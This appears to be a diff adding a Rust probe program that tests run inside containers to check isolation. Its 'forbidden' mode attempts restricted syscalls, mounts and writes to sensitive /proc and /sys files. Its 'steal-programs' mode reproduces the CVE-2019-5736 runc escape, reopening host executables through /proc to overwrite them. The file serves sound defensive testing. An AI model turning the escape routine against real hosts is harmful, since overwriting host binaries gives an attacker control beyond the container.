@@ -1,0 +1,163 @@
+//! What the tests run inside containers: a peer on the network, and an attacker who tries what a container must
+//! not be able to do and prints what the kernel answers.
+
+use std::collections::BTreeMap;
+use std::fs::{File, OpenOptions};
+use std::io::{Error, Read, Write};
+use std::net::{TcpStream, UdpSocket};
+use std::os::fd::AsRawFd;
+use std::path::Path;
+use std::process::ExitCode;
+use std::time::{Duration, Instant};
+
+use rustix::fs::{CWD, Mode, OFlags, openat};
+use rustix::mount::{MountFlags, UnmountFlags, mount, unmount};
+use rustix::net::{AddressFamily, SocketType, socket};
+
+fn main() -> ExitCode {
+    let words: Vec<String> = std::env::args().skip(1).collect();
+    let words: Vec<&str> = words.iter().map(String::as_str).collect();
+    let result = match words[..] {
+        ["udp-echo", port] => udp_echo(port),
+        ["fetch", host, port] => fetch(host, port),
+        ["forbidden"] => forbidden(),
+        ["descriptors"] => descriptors(),
+        ["steal-programs"] => steal_programs(),
+        _ => Err(Error::other("udp-echo PORT | fetch HOST PORT | forbidden | descriptors | steal-programs")),
+    };
+    match result {
+        Ok(()) => ExitCode::SUCCESS,
+        Err(error) => {
+            eprintln!("probe: {error}");
+            ExitCode::FAILURE
+        }
+    }
+}
+
+fn udp_echo(port: &str) -> std::io::Result<()> {
+    let socket = UdpSocket::bind(format!("0.0.0.0:{port}"))?;
+    println!("up");
+    let mut datagram = [0; 1500];
+    loop {
+        let (length, peer) = socket.recv_from(&mut datagram)?;
+        socket.send_to(&datagram[..length], peer)?;
+    }
+}
+
+/// The body of a web page, or whatever a peer that speaks no HTTP says.
+fn fetch(host: &str, port: &str) -> std::io::Result<()> {
+    let address = format!("{host}:{port}").parse().map_err(Error::other)?;
+    let mut stream = TcpStream::connect_timeout(&address, Duration::from_secs(5))?;
+    stream.set_read_timeout(Some(Duration::from_secs(5)))?;
+    write!(stream, "GET /index.html HTTP/1.0\r\n\r\n")?;
+    let mut answer = String::new();
+    stream.read_to_string(&mut answer)?;
+    println!("{}", answer.split_once("\r\n\r\n").map_or(&*answer, |(_, body)| body).trim_end());
+    Ok(())
+}
+
+/// Tries what is not allowed; a line for each: the name, and the kernel's answer.
+fn forbidden() -> std::io::Result<()> {
+    let mut answers: BTreeMap<&str, Result<(), Error>> = BTreeMap::new();
+    let socket_of = |family| socket(family, SocketType::SEQPACKET, None).map(drop).map_err(Error::from);
+    answers.insert("AF_ALG", socket_of(AddressFamily::from_raw(38)));
+    answers.insert("AF_VSOCK", socket_of(AddressFamily::from_raw(40)));
+    let mounted = mount("none", "/tmp", "tmpfs", MountFlags::empty(), None);
+    answers.insert("mount", mounted.map_err(Error::from));
+    answers.insert("umount", unmount("/proc", UnmountFlags::DETACH).map_err(Error::from));
+    for path in
+        ["/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper", "/proc/kcore"]
+    {
+        let opened = OpenOptions::new().write(true).open(path).map(drop);
+        answers.insert(path, opened);
+    }
+    let new_user = libc::CLONE_NEWUSER as usize;
+    for (name, number, arguments) in [
+        ("keyctl", libc::SYS_keyctl, [0, (-3_isize) as usize, 0, 0]),
+        ("add_key", libc::SYS_add_key, [0, 0, 0, 0]),
+        ("bpf", libc::SYS_bpf, [0, 0, 0, 0]),
+        ("perf_event_open", libc::SYS_perf_event_open, [0, 0, 0, 0]),
+        ("unshare", libc::SYS_unshare, [new_user, 0, 0, 0]),
+        ("setns", libc::SYS_setns, [0, 0, 0, 0]),
+        ("open_by_handle_at", libc::SYS_open_by_handle_at, [0, 0, 0, 0]),
+        ("init_module", libc::SYS_init_module, [0, 0, 0, 0]),
+        ("kexec_load", libc::SYS_kexec_load, [0, 0, 0, 0]),
+        ("swapon", libc::SYS_swapon, [0, 0, 0, 0]),
+        ("settimeofday", libc::SYS_settimeofday, [0, 0, 0, 0]),
+        ("userfaultfd", libc::SYS_userfaultfd, [0, 0, 0, 0]),
+        ("iopl", libc::SYS_iopl, [3, 0, 0, 0]),
+    ] {
+        answers.insert(name, system_call(number, arguments));
+    }
+    for (name, answer) in answers {
+        let code = answer.err().and_then(|error| error.raw_os_error());
+        println!("{name} {}", code.map_or("allowed".to_owned(), |code| code.to_string()));
+    }
+    Ok(())
+}
+
+#[expect(unsafe_code, reason = "there is no safe way to ask for what nobody offers")]
+fn system_call(number: i64, arguments: [usize; 4]) -> Result<(), Error> {
+    let [a, b, c, d] = arguments;
+    // SAFETY: all of these take numbers, flags and null pointers here; the kernel checks them and writes nothing
+    // to our memory.
+    let answer = unsafe { libc::syscall(number, a, b, c, d) };
+    if answer < 0 { Err(Error::last_os_error()) } else { Ok(()) }
+}
+
+/// The descriptors that came with us, and the working directory.
+fn descriptors() -> std::io::Result<()> {
+    let directory = File::open("/proc/self/fd")?;
+    let ours = directory.as_raw_fd().to_string();
+    let mut numbers: Vec<String> = std::fs::read_dir("/proc/self/fd")?
+        .flatten()
+        .map(|entry| entry.file_name().to_string_lossy().into_owned())
+        .filter(|number| *number != ours)
+        .collect();
+    // the listing has one of its own
+    numbers.retain(|number| std::fs::read_link(format!("/proc/self/fd/{number}")).is_ok());
+    numbers.sort();
+    println!("{}\n{}", numbers.join(" "), std::env::current_dir()?.display());
+    Ok(())
+}
+
+/// CVE-2019-5736: waits for programs that come into our process namespace from outside, and tries to write to
+/// them, for two seconds.
+fn steal_programs() -> std::io::Result<()> {
+    println!("up");
+    let me = std::process::id().to_string();
+    let mine = std::fs::read_link("/proc/self/exe")?;
+    let deadline = Instant::now() + Duration::from_secs(2);
+    let mut seen = BTreeMap::new();
+    let mut held = Vec::new();
+    while Instant::now() < deadline {
+        for entry in std::fs::read_dir("/proc")?.flatten() {
+            let pid = entry.file_name().to_string_lossy().into_owned();
+            if !pid.bytes().all(|b| b.is_ascii_digit()) || pid == me {
+                continue;
+            }
+            let path = format!("/proc/{pid}/exe");
+            let Ok(target) = std::fs::read_link(&path) else { continue };
+            // what is in our own root is ours to write to
+            if target == mine || Path::new(&target).exists() || target.to_string_lossy().contains("busybox") {
+                continue;
+            }
+            if let Ok(fd) = openat(CWD, &path, OFlags::PATH, Mode::empty()) {
+                seen.insert(target.display().to_string(), "held");
+                held.push((target.display().to_string(), fd));
+            }
+        }
+        for (name, fd) in &held {
+            let path = format!("/proc/self/fd/{}", fd.as_raw_fd());
+            if let Ok(mut file) = OpenOptions::new().write(true).open(path) {
+                seen.insert(name.clone(), "STOLEN");
+                file.write_all(b"#!/bin/sh\n").ok();
+            }
+        }
+    }
+    for (name, what) in seen {
+        println!("{what} {name}");
+    }
+    println!("done");
+    Ok(())
+}
